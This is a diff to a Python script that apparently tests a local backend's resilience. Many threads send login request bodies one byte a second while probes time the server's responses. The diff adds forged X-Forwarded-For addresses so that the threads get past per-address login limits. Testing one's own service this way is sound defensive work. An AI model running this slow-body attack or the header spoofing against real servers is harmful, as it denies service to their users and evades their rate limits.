@@ -48,21 +48,28 @@ class Attacker:
 
 
 def slow_body(
-    target: Target, attacker: Attacker, stop: threading.Event, wait: float
+    target: Target,
+    attacker: Attacker,
+    stop: threading.Event,
+    wait: float,
+    forwarded_for: str | None = None,
 ) -> None:
     """Send a login's body a byte a second until stop; then wait for the close."""
+    # As a proxy would pass it on: a production backend answers a request it
+    # sees as plain HTTP with a redirect, body unread.
+    head = [
+        "POST /api/auth/token/ HTTP/1.1",
+        f"Host: 127.0.0.1:{target.port}",
+        "X-Forwarded-Proto: https",
+        "Content-Type: application/json",
+        "Content-Length: 4096",
+    ]
+    if forwarded_for is not None:
+        head.append(f"X-Forwarded-For: {forwarded_for}")
     try:
         with target.connect(timeout=5) as sock:
             attacker.connected = True
-            # As a proxy would pass it on: a production backend answers a
-            # request it sees as plain HTTP with a redirect, body unread.
-            sock.sendall(
-                b"POST /api/auth/token/ HTTP/1.1\r\n"
-                + f"Host: 127.0.0.1:{target.port}\r\n".encode()
-                + b"X-Forwarded-Proto: https\r\n"
-                b"Content-Type: application/json\r\n"
-                b"Content-Length: 4096\r\n\r\n"
-            )
+            sock.sendall("\r\n".join([*head, "", ""]).encode())
             last_byte = time.monotonic()
             while not stop.wait(1.0):
                 sock.sendall(b" ")
@@ -107,6 +114,11 @@ def probe(target: Target, path: str, headers: dict[str, str], timeout: float) ->
     return Probe(path, time.monotonic() - started, status)
 
 
+def forged(n: int) -> str:
+    """Return the nth of 65,024 addresses in 198.18.0.0/16, a benchmarking range."""
+    return f"198.18.{n // 254 % 256}.{n % 254 + 1}"
+
+
 def under_attack(
     target: Target,
     probes: list[tuple[str, dict[str, str]]],
@@ -115,16 +127,26 @@ def under_attack(
     seconds: float,
     probe_timeout: float,
     close_wait: float,
+    forged_addresses: bool = False,
 ) -> tuple[list[Probe], list[Attacker]]:
     """
     Return the probes taken while attackers slow bodies go to target, for
     seconds, and each attacker's story, close_wait after they stopped sending.
+
+    With forged_addresses, each attacker claims a client address of its own in
+    X-Forwarded-For, as anyone who reaches a backend that trusts one proxy hop
+    (DJANGO_NUM_PROXIES=1) can: no per-address login limit then refuses any of
+    them before its body is read, whatever that address spent earlier.
     """
     stop = threading.Event()
     stories = [Attacker() for _ in range(attackers)]
     threads = [
-        threading.Thread(target=slow_body, args=(target, story, stop, close_wait))
-        for story in stories
+        threading.Thread(
+            target=slow_body,
+            args=(target, story, stop, close_wait),
+            kwargs={"forwarded_for": forged(n) if forged_addresses else None},
+        )
+        for n, story in enumerate(stories)
     ]
     for thread in threads:
         thread.start()
